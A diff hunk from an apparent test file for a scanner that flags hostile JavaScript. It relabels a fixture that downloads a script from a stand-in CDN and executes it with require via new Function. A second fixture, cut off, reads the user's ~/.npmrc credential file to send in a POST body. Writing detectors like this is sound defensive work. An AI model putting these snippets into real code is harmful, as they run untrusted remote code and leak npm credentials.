@@ -278,7 +278,8 @@ def test_token_soup_never_trips_the_walk():
     # an async helper returns the body of a download; its caller hands it to new Function
     ("async function fetchRules(url) {\n  const res = await fetch(url);\n  if (!res.ok) throw new Error('x');\n"
      "  return await res.text();\n}\n\nasync function main() {\n  const rules = await fetchRules('https://cdn.example.net/r.js');\n"
-     "  console.log('applying');\n  new Function('require', rules)(require);\n}\nmain();\n", [("DX-04", 10, 2)]),
+     # (given require, the download runs as a module of the program: SC-01, as vm/_compile are)
+     "  console.log('applying');\n  new Function('require', rules)(require);\n}\nmain();\n", [("SC-01", 10, 2)]),
     # an arrow with an expression body returns a credential file; a POST body carries it
     ("const fs = require('fs');\nconst os = require('os');\n"
      "const profile = () => fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');\n"
